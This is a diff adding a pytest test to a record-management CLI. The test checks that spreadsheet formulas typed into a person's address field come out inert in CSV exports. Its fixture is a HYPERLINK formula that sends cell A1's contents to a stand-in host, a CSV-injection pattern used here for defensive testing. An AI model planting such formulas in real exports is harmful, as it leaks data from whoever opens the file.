@@ -120,3 +120,22 @@ def test_commands_on_an_uninitialised_database_say_so(tmp_path):
     )
     assert result.exit_code == 2
     assert "onesheet init" in result.output
+
+
+def test_raw_export_cannot_carry_a_formula(cli, tmp_path):
+    """A typed value that a spreadsheet would run as a formula is exported inert."""
+    assert cli("init").exit_code == 0
+    assert cli("seed", "--county", "330523", "--people", "50", "--seed", "4").exit_code == 0
+    first = tmp_path / "first.csv"
+    assert cli("sheet", "export", "--entity", "person", "--out", str(first)).exit_code == 0
+    with first.open(encoding="utf-8-sig", newline="") as fh:
+        target = next(csv.DictReader(fh))["entity_id"]
+    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
+    fixed = cli("sheet", "correct", target, "--field", "person.current_address", "--value", evil)
+    assert fixed.exit_code == 0, fixed.output
+    out = tmp_path / "people.csv"
+    assert cli("sheet", "export", "--entity", "person", "--out", str(out)).exit_code == 0
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        rows = {r["entity_id"]: r for r in csv.DictReader(fh)}
+    assert rows[target]["person.current_address"] == "'" + evil
+    assert not any(v.startswith("=") for r in rows.values() for v in r.values())
